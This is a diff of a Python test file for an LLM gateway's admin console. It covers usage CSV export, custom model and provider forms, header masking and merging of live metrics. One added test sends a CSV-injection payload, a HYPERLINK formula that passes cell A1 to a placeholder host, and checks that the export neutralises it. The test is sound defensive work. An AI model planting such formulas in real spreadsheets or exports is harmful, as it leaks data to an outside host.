@@ -123,14 +123,15 @@ def browse_providers_routes_usage(url: str) -> None:
         assert "mock/small-model" in page.inner_text("#page")  # the haiku tier
         page.click("nav a[data-page=usage]")
         page.wait_for_selector("#page[data-page=usage] #csv")
-        assert page.inner_text("#usage-keys tbody tr").split() == ["key1", "1", "0", "15", "$0.0200"]
+        assert page.inner_text("#usage-keys tbody tr").split() == ["key1", "2", "0", "30", "$0.0400"]
         assert len(page.query_selector_all("#chart-spend rect")) == 1  # one day so far
-        assert page.text_content("#chart-spend rect title").endswith(": $0.0200")
+        assert page.text_content("#chart-spend rect title").endswith(": $0.0400")
         assert page.query_selector("#chart-spend rect").bounding_box()["height"] > 40  # the day's bar is full height
         with page.expect_download() as download:
             page.click("#csv")
         csv = Path(download.value.path()).read_text()
         assert csv.startswith("day,key,model,requests,") and ",key1,mock-model,1,0,10,5," in csv, csv
+        assert ',key1,"\'=HYPERLINK(""http://x.invalid/?""&A1,""click"")",1,' in csv, csv  # text, not a formula
         watch.clean()
 
 
@@ -139,6 +140,7 @@ async def test_console_providers_routes_usage_in_a_browser(nursery: trio.Nursery
     upstream.handler = answers_ok
     relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}"))
     assert await run(ask, relay.url, RELAY_KEY) == "ok"
+    assert await run(ask, relay.url, RELAY_KEY, '=HYPERLINK("http://x.invalid/?"&A1,"click")') == "ok"
     await relay.server.flush_usage()
     await run(browse_providers_routes_usage, relay.url)
 
@@ -184,7 +186,7 @@ async def test_console_headers_and_admin_routes(nursery: trio.Nursery, upstream:
     [seen] = live["recent"]
     assert (seen["key"], seen["model"], seen["target"], seen["status"], seen["input_tokens"]) == \
         ("key1", "mock-model", "mock/mock-model", 200, 10)
-    assert live["instances"] == 1 and live["store"] == "up" and live["streams_open"] == 0
+    assert live["instances"] == 1 and live["store"] == "up" and live["streams_open"] == 0 and live["unreadable"] == 0
     assert (await run(call, url, "GET", "/admin/live")).json()["recent"] == [seen]  # the same id: the page dedups
     providers = (await run(call, url, "GET", "/admin/providers")).json()["data"]
     assert providers[0]["name"] == "mock" and providers[0]["health"]["circuit"] == "closed"
@@ -217,11 +219,11 @@ def browse_custom_models(url: str, custom_url: str) -> None:
         page.fill("#model-form [name=extra]", '{"retries": "three"}')
         page.click("#model-form button[type=submit]")
         page.wait_for_selector("#model-error:has-text('retries: expected int')")
-        assert page.query_selector("#stored tr") is None
+        assert page.query_selector("#stored tr[data-name=custom]") is None
         watch.errors.clear()  # the browser logs the refused save (400) as a failed load
-        page.fill("#model-form [name=extra]", '{"tool_call_content": "empty", "retries": 0}')
+        page.fill("#model-form [name=extra]", '{"tool_call_content": "empty", "retries": 0, "headers": {"x-team": "HDR"}}')
         page.click("#model-form button[type=submit]")
-        page.wait_for_selector("#model-saved:has-text('live on every instance')")
+        page.wait_for_selector("#model-saved:has-text('served here now')")
         page.wait_for_selector("#stored tr[data-name=custom]:has-text('custom-model')")
         assert ask(url, RELAY_KEY, "custom/custom-model") == "from custom"  # routed to it at once
         # edited: another model name; the key stays as it was (the field is left empty)
@@ -232,9 +234,19 @@ def browse_custom_models(url: str, custom_url: str) -> None:
         page.click("#model-form button[type=submit]")
         page.wait_for_selector("#stored tr[data-name=custom]:has-text('second-model')")
         assert ask(url, RELAY_KEY, "second-model") == "from custom"
-        assert "sk-custom-from-the-page" not in page.content()
+        assert "sk-custom-from-the-page" not in page.content() and "HDR" not in page.content()
         page.click("[data-delete=custom]")
         page.wait_for_selector("#stored tr[data-name=custom]", state="detached")
+        # from a preset: the preset's format stays (the page sends none)
+        page.fill("#model-form [name=name]", "gem")
+        page.select_option("#model-form [name=preset]", "gemini")
+        page.fill("#model-form [name=models]", "gemini-2.5-flash")
+        page.click("#model-form button[type=submit]")
+        page.wait_for_selector("#stored tr[data-name=gem]:has-text('gemini')")
+        # a stored provider this process leaves out is drawn with why, and the others after it still are
+        page.click("nav a[data-page=providers]")
+        page.wait_for_selector("#page[data-page=providers] .error:has-text('LAB_ELSEWHERE is not set')")
+        page.wait_for_selector("#page[data-page=providers] h2:has-text('mock')")
         watch.clean()
 
 
@@ -242,11 +254,17 @@ async def test_console_custom_models_in_a_browser(nursery: trio.Nursery, upstrea
     custom = MockUpstream(lambda r: text_stream("from custom", usage=(3, 2)))
     await nursery.start(custom.serve)
     upstream.handler = lambda r: text_stream("from mock", usage=(1, 1))
-    relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}"))
+    relay = await start_relay(nursery, gateway_config(upstream, f"sqlite://{tmp_path / 'relay.sqlite3'}")
+                              + 'provider_env = ["LAB_*"]\n')
+    elsewhere = {"name": "aaa-elsewhere", "base_url": custom.base_url, "api_key": "${LAB_ELSEWHERE}"}
+    assert (await run(call, relay.url, "POST", "/admin/providers", ADMIN, elsewhere)).status_code == 201
     await run(browse_custom_models, relay.url, custom.base_url)
     auth = {r.headers["authorization"] for r in custom.requests}
     assert auth == {"Bearer sk-custom-from-the-page"}, auth
+    assert {r.headers["x-team"] for r in custom.requests} == {"HDR"}  # the edit sent the masked header back unchanged
     assert custom.requests[0].json["model"] == "custom-model" and custom.requests[-1].json["model"] == "second-model"
+    gem = (await run(call, relay.url, "GET", "/admin/providers/gem")).json()
+    assert gem["format"] == "gemini" and "format" not in gem["table"] and gem["table"]["preset"] == "gemini"
 
 
 def test_live_series_and_bounds() -> None:
@@ -289,7 +307,10 @@ def test_live_figures_of_several_processes_merge() -> None:
                      duration=1.0, input_tokens=1, output_tokens=1, cost_micros=0)  # half an hour ago
     one.streams(t0 + 5, 3)
     two.streams(t0 + 5, 2)
-    whole, streams_open = merged(t0 + 6, [one.export(t0 + 6, 3), two.export(t0 + 6, 2)])
+    bad = [None, {"v": 1, "slots": [[1, 2]], "recent": []}, {"slots": [], "recent": []}, {"v": 1, "slots": "x"},
+           {"v": 1, "slots": [[int(t0 // STEP), "many", 0, 0, 0, 0, []]], "recent": [], "streams_open": 9}]
+    whole, streams_open, unreadable = merged(t0 + 6, [one.export(t0 + 6, 3), *bad, two.export(t0 + 6, 2)])
+    assert unreadable == len(bad)  # left out one by one: none of them blanks the view or adds a thing
     snap = whole.snapshot(t0 + 6)
     s = snap["series"]
     assert streams_open == 5 and s["streams_open"][-1] == 5
@@ -303,7 +324,7 @@ def test_live_figures_of_several_processes_merge() -> None:
         for j in range(RECENT):
             live.request_done(t0 + j + i / 10, key="k", model="m", target="p/m", status=200, stream=True, ttfb=0.1,
                               duration=0.1, input_tokens=1, output_tokens=1, cost_micros=0)
-    whole, _ = merged(t0 + RECENT, [live.export(t0 + RECENT, 0) for live in many])
+    whole, _, _ = merged(t0 + RECENT, [live.export(t0 + RECENT, 0) for live in many])
     recent = whole.snapshot(t0 + RECENT)["recent"]
     assert len(recent) == RECENT and recent[0]["id"] == f"2-{RECENT}"  # bounded, the newest of all kept
 
@@ -332,5 +353,13 @@ async def test_the_console_on_any_instance_shows_the_whole_gateway(nursery: trio
         await until(seen_on_one, seconds=8)
         live = (await run(call, one.url, "GET", "/admin/live")).json()
         assert sum(live["series"]["requests_per_s"]) > 0 and live["recent"][0]["key"] == "key1"
-        logs = [i.stop() for i in (one, two)]
+        logs = [two.stop()]  # SIGTERM: it leaves the store's list at once, not after 10 s of silence
+        started = trio.current_time()
+
+        async def alone() -> bool:
+            return (await run(call, one.url, "GET", "/admin/live")).json()["instances"] == 1  # type: ignore[no-any-return]
+
+        await until(alone, seconds=8)
+        assert trio.current_time() - started < 3
+        logs.append(one.stop())
     assert all("Traceback" not in log for log in logs), logs
